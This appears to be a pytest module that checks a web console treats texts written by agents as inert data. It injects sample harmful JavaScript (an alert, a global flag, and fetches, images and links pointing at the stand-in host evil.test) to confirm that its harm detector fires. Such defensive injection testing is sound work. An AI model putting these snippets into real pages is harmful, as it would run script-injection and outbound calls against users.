"""Words of agents are data: whatever they hold, nothing of it runs, nothing is fetched and nothing moves the page."""

import re
from collections.abc import Iterator

import httpx2
import pytest
from playwright.sync_api import Browser

from tests.console.console_server import ConsoleServer, serving_console
from tests.console.hostile import payloads
from tests.console.hostile_table import HostileTable, gateway_file
from tests.console.hostile_tour import touring
from tests.console.hostile_visits import MOST_REFUSED, NAMES_REFUSED, VISITS
from tests.e2e.servers import Processes

COUNT = 200
pytestmark = pytest.mark.timeout(600)

Started = tuple[ConsoleServer, HostileTable]


@pytest.fixture(scope="module")
def started(browser: Browser, processes: Processes, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Started]:
    folder = tmp_path_factory.mktemp("hostile")
    with serving_console(browser, processes, folder, gateway_config=str(gateway_file(folder, 0, COUNT))) as console:
        with httpx2.Client(base_url=console.address, timeout=60) as client:
            table = HostileTable(client, 0, COUNT, open_every=5)
            table.fill()
        yield console, table


def test_the_texts_are_all_different_and_always_the_same() -> None:
    assert len(set(payloads(2_000))) == 2_000
    assert payloads(COUNT) == payloads(2_000)[:COUNT]


def test_nearly_every_text_is_taken_by_every_field(started: Started) -> None:
    _, table = started

    # Names of agents have rules of their own: what nobody sees, or reads as a person, is refused in them.
    texts = {name: count for name, count in table.taken.items() if not name.endswith(".agent")}
    few = {name: count for name, count in texts.items() if count < COUNT - MOST_REFUSED}
    assert few.keys() <= {"replies.answers"}
    assert table.taken["notes.agent"] >= COUNT - NAMES_REFUSED


HARM = {
    "a script ran": "window.__pwned = 1",
    "element: <img": "document.querySelector('main').append(Object.assign(new Image(), { src: 'https://evil.test/' }))",
    "evil.test/left": "fetch('https://evil.test/left').catch(() => {})",
    "dialog: harm": "alert('harm')",
    "link: <a": "document.querySelector('main').insertAdjacentElement('afterbegin', "
    "Object.assign(document.createElement('a'), { href: 'https://evil.test/', textContent: 'away' }))",
    "not one root": "document.querySelector('main').append(Object.assign(document.createElement('p'), { id: 'root' }))",
}


def look_at(console: ConsoleServer, harm: str) -> None:
    with touring(console) as tour:
        tour.goes("/sessions")
        tour.page.evaluate(harm)
        tour.walks()


@pytest.mark.parametrize("harm", HARM)
def test_harm_would_be_noticed(console: ConsoleServer, harm: str) -> None:
    with pytest.raises(AssertionError, match=re.escape(harm)):
        look_at(console, HARM[harm])


LONG_VISITS = ("manuscript", "checklist")
"""Each opens two hundred histories or dialogs, whose texts other places show in the same way."""


@pytest.mark.parametrize(
    "place", [pytest.param(place, marks=pytest.mark.proof if place in LONG_VISITS else ()) for place in VISITS]
)
def test_hostile_texts_do_nothing_where_they_are_shown(started: Started, place: str) -> None:
    console, table = started

    with touring(console) as tour:
        VISITS[place](tour, table)
